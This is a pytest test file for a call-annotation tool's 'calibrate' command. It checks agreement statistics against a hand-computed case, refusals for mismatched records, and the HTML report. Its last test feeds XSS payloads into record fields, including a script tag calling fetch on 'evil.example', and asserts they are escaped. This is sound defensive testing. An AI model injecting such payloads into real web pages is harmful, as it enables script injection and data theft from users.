"""`callmark calibrate` through the real command: the figures on a hand-computed case, refusals, the report."""

from __future__ import annotations

import hashlib
import json
import re
import sqlite3

import pytest

from desktop.exchange.record import write_record
from tests.conftest import run_cli
from tests.services.test_calibration_service import coach_record, uid

KEYS = ["matched", "mine", "theirs", "moment_agreement", "kind_kappa", "behavior_change_agreement",
        "mean_start_offset_ms", "pairs", "only_mine", "only_theirs"]

# Worked by hand (tolerance 5,000 ms):
#   Lee  (mine)   A 10.0–12.0 question/start  B 30–31 answer/stop  C 60–61 question  D 100–101 other
#   Dana (theirs) a 13.0–14.0 question/start  b 24–32 answer/adjust c 58–70 answer    e 120–121 other
#   A–a: starts 3 s apart -> pair (+3000). B–b: starts 6 s apart, beyond the tolerance, but the
#   intervals overlap -> pair (-6000). C–c: overlap, 2 s -> pair (-2000). D, e: nothing near.
#   matched 3; agreement 2*3/(4+4) = 0.75.
#   kinds mine [q, a, q], theirs [q, a, a]: p_o = 2/3, p_e = 2/3*1/3 + 1/3*2/3 = 4/9,
#   kappa = (2/3 - 4/9) / (5/9) = 0.4.
#   behavior change: A/a start=start, B/b stop!=adjust, C has no item -> 1/2 = 0.5.
#   mean start offset (3000 - 6000 - 2000) / 3 = -1666.67 ms.
LEE = [(10_000, 12_000, "question", "start", "Ask who signs."), (30_000, 31_000, "answer", "stop", "Stop pitching."),
       (60_000, 61_000, "question"), (100_000, 101_000, "other")]
DANA = [(13_000, 14_000, "question", "start", "Ask who else signs the order form."),
        (24_000, 32_000, "answer", "adjust", "Pitch after the pain."), (58_000, 70_000, "answer"),
        (120_000, 121_000, "other")]


@pytest.fixture
def demo(isolated_home, demo_media, tmp_path):
    run_cli("calls", "add", str(demo_media), "--title", "Discovery - Acme", home=isolated_home, check=True)
    sha = hashlib.sha256(demo_media.read_bytes()).hexdigest()
    lee, dana = tmp_path / "lee.callmark.json", tmp_path / "dana.callmark.json"
    write_record(lee, coach_record("Lee Coach", sha, 140_715, LEE))
    write_record(dana, coach_record("Dana Coach", sha, 140_715, DANA))
    return isolated_home, lee, dana


def dump(home) -> list[str]:
    con = sqlite3.connect(f"file:{home / 'callmark.sqlite3'}?mode=ro", uri=True)
    try:
        return list(con.iterdump())
    finally:
        con.close()


def test_json_keys_and_figures_on_the_hand_computed_case(demo):
    home, lee, dana = demo
    out = run_cli("calibrate", "1", "--theirs", str(dana), "--mine", str(lee), "--json", home=home, check=True)
    result = json.loads(out.stdout)
    assert list(result) == KEYS
    assert (result["matched"], result["mine"], result["theirs"]) == (3, 4, 4)
    assert result["moment_agreement"] == 0.75
    assert result["kind_kappa"] == pytest.approx(0.4)
    assert result["behavior_change_agreement"] == 0.5
    assert result["mean_start_offset_ms"] == pytest.approx(-5000 / 3)
    assert [(p["mine"], p["theirs"], p["start_diff_ms"], p["mine_kind"], p["theirs_kind"])
            for p in result["pairs"]] == [
        (uid("Lee Coach", 0), uid("Dana Coach", 0), 3000, "question", "question"),
        (uid("Lee Coach", 1), uid("Dana Coach", 1), -6000, "answer", "answer"),
        (uid("Lee Coach", 2), uid("Dana Coach", 2), -2000, "question", "answer")]
    assert result["only_mine"] == [uid("Lee Coach", 3)] and result["only_theirs"] == [uid("Dana Coach", 3)]

    # A wider tolerance changes nothing here; a zero tolerance keeps only the overlapping pairs.
    tight = json.loads(run_cli("calibrate", "1", "--theirs", str(dana), "--mine", str(lee), "--tolerance-ms", "0",
                               "--json", home=home, check=True).stdout)
    assert tight["matched"] == 2 and tight["moment_agreement"] == 0.5


def test_text_output_names_figures_pairs_and_unmatched(demo):
    home, lee, dana = demo
    out = run_cli("calibrate", "1", "--theirs", str(dana), "--mine", str(lee), home=home, check=True).stdout
    assert "moment agreement           0.750" in out and "kind kappa                 0.400" in out
    assert "mean start offset          -1667 ms" in out
    assert re.search(rf"{uid('Lee Coach', 1)}\s+{uid('Dana Coach', 1)}\s+-6000 ms\s+answer", out)
    assert "only mine (1):" in out and uid("Lee Coach", 3) in out
    assert "only theirs (1):" in out and uid("Dana Coach", 3) in out


def test_a_record_for_another_recording_is_refused_with_nothing_written(demo, tmp_path):
    home, lee, _ = demo
    other = tmp_path / "globex.callmark.json"
    other_sha = hashlib.sha256(b"globex renewal").hexdigest()
    write_record(other, coach_record("Dana Coach", other_sha, 60_000, [(1000, 2000, "question")],
                                     title="Renewal - Globex"))
    before = dump(home)
    out = run_cli("calibrate", "1", "--theirs", str(other), "--mine", str(lee), home=home)
    assert out.returncode == 1 and out.stdout == ""
    line = out.stderr.strip()
    assert "\n" not in line and "Renewal - Globex" in line and other_sha[:12] in line and "Discovery - Acme" in line
    assert dump(home) == before


def test_own_record_as_theirs_is_refused(demo):
    home, lee, _ = demo
    out = run_cli("calibrate", "1", "--theirs", str(lee), "--mine", str(lee), home=home)
    assert out.returncode == 1 and "own" in out.stderr


def test_report_is_self_contained_and_escaped(demo, demo_media, tmp_path):
    home, lee, _ = demo
    sha = hashlib.sha256(demo_media.read_bytes()).hexdigest()
    hostile = tmp_path / "hostile.callmark.json"
    write_record(hostile, coach_record("Eve <script>alert(1)</script>", sha, 140_715, [
        (10_500, 12_000, "question", "start", "Ask <img src=x onerror=alert(2)> who signs."),
        (50_000, 51_000, "answer", "stop", '"><script>fetch("https://evil.example")</script>')]))
    report = tmp_path / "report.html"
    run_cli("calibrate", "1", "--theirs", str(hostile), "--mine", str(lee), "--report", str(report),
            home=home, check=True)
    html = report.read_text(encoding="utf-8")
    assert "<script" not in html.lower() and "<img" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;img src=x onerror=alert(2)&gt;" in html
    assert '<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src' in html
    assert not re.search(r"(src|href)\s*=\s*[\"']?(https?:|//)", html, re.I)
    assert "<mark>" in html  # the word-level difference of the paired items is shown
    assert html.count('class="span mine') == 4 and html.count('class="span theirs') == 2
    # each mark carries its kind's letter, not its colour alone, and the letters are explained
    spans = re.findall(r'<span class="span (?:mine|theirs)[^"]*" title="\d+: ([a-z ]+)"[^>]*>([A-Z])</span>', html)
    assert len(spans) == 6 and all(letter == kind.replace("missed intervention", "M")[0].upper()
                                   for kind, letter in spans)
    assert "Q question, A answer, M missed intervention, N next step" in " ".join(html.split())
    assert not list(tmp_path.glob("report.html.*"))  # atomic: no temporary file left behind
